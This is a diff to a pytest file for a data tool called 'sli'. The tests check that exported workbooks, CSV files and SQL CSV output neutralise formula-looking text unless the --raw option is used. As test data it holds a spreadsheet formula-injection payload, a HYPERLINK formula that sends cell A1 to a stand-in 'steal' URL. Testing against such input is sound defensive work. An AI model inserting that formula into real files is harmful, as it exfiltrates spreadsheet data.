@@ -106,7 +106,7 @@ def test_names_from_inputs_cannot_leave_sli_home(tmp_path):
     assert all(".." not in p.name and "/" not in p.name for p in (home / "landing" / "lginform").iterdir())
 
 
-def test_exported_workbooks_keep_formula_looking_text_as_text(tmp_path, published_home):
+def test_exported_workbooks_and_csv_keep_formula_looking_text_as_text(tmp_path, published_home):
     home = copy_home(published_home, tmp_path / "home")
     hostile = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Open")'
     with (home / "inbox" / "ope" / "ope_partnership_outputs.csv").open("w", newline="", encoding="utf-8") as handle:
@@ -121,6 +121,17 @@ def test_exported_workbooks_keep_formula_looking_text_as_text(tmp_path, publishe
     assert sheets and not any("<f>" in sheet for sheet in sheets)  # no cell is a formula
     ope = pd.read_excel(workbook, sheet_name="One Public Estate", engine="calamine")
     assert hostile in set(ope["partnership_name"])
+    # The CSV files and `sli sql --format csv` are opened in spreadsheets too: text, not a formula, unless
+    # --raw; Parquet keeps the value exactly.
+    [folder] = (home / "exports").glob("*/")
+    exported = pd.read_csv(folder / "csv" / "fct_ope_outputs.csv", dtype=str)
+    assert "'" + hostile in set(exported["partnership_name"]) and hostile not in set(exported["partnership_name"])
+    assert hostile in set(pd.read_parquet(folder / "parquet" / "fct_ope_outputs.parquet")["partnership_name"])
+    sli(home, "export", "--raw", "--out", str(tmp_path / "raw"))
+    assert hostile in set(pd.read_csv(tmp_path / "raw" / "csv" / "fct_ope_outputs.csv", dtype=str)["partnership_name"])
+    query = "select partnership_name from fct_ope_outputs where partnership_name like '=HYPERLINK%'"
+    assert sli(home, "sql", query, "--format", "csv").stdout.splitlines()[1].startswith("\"'=HYPERLINK")
+    assert sli(home, "sql", query, "--format", "csv", "--raw").stdout.splitlines()[1].startswith('"=HYPERLINK')
 
 
 def test_sli_sql_cannot_reach_files_extensions_or_settings(published_home, tmp_path):
